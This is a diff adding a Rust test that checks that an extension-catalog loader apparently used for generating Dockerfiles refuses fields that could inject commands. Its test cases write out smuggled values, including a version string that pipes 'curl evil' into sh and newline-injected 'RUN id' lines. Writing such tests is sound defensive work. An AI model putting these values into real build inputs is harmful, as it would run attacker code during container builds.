@@ -232,3 +232,65 @@ fn a_version_cannot_walk_out_of_the_directories_it_names_files_in() {
     assert!(!tmp.path().join("escaped.tar.gz").exists());
     assert!(!tmp.path().join("out/escaped.tar.gz").exists());
 }
+
+/// Catalog words end up in the generated Dockerfile: one that would break
+/// out of its place there (a newline starts a new instruction; an unquoted
+/// word may hold shell) is refused at load, naming the file and the field.
+#[test]
+fn catalog_words_cannot_inject_into_the_generated_build() {
+    let tmp = tempfile::tempdir().unwrap();
+    let cache = tmp.path().join("cache");
+    let sha = "0".repeat(64);
+    let base = |extra_top: &str, build: &str| {
+        format!(
+            "name = \"a\"\ndescription = \"x\"\nlicense = \"MIT\"\nset = \"default\"\nversion = \"1.0\"\n\
+             pg_majors = {{ min = 10 }}\n{extra_top}\n[build]\n{build}\n\n[[versions]]\nversion = \"1.0\"\n\
+             tag = \"v1.0\"\nurl = \"https://example.invalid/a.tar.gz\"\nsha256 = \"{sha}\"\n\
+             provenance = \"reproduced-only\"\n"
+        )
+    };
+    let cases = [
+        (
+            "pgrx",
+            base("", "kind = \"pgrx\"\npgrx = \"0.12.9 --locked; curl evil|sh #\""),
+            "build.pgrx",
+        ),
+        (
+            "features",
+            base(
+                "",
+                "kind = \"pgrx\"\npgrx = \"0.12.9\"\nfeatures = [\"x\\\" ; id ; \\\"\"]",
+            ),
+            "build.features",
+        ),
+        (
+            "packages",
+            base("", "kind = \"pgxs\"\npackages = [\"curl\\nRUN id\"]"),
+            "build.packages",
+        ),
+        (
+            "setting",
+            base("settings = { \"x\" = \"1\\nRUN id\" }", "kind = \"pgxs\""),
+            "settings.x",
+        ),
+        (
+            "preload",
+            base("preload_library = \"a,evil\"", "kind = \"pgxs\""),
+            "preload_library",
+        ),
+        (
+            "description",
+            base("", "kind = \"pgxs\"").replace("description = \"x\"", "description = \"x\\nRUN id\""),
+            "description",
+        ),
+    ];
+    for (what, text, field) in cases {
+        let dir = tmp.path().join(what);
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join("a.toml"), &text).unwrap();
+        let out = pgha(Some(&dir), &cache, &["extensions", "list"])
+            .output()
+            .unwrap();
+        assert_bad_input(&out, &cache, &["a.toml:", field], "catalog file");
+    }
+}
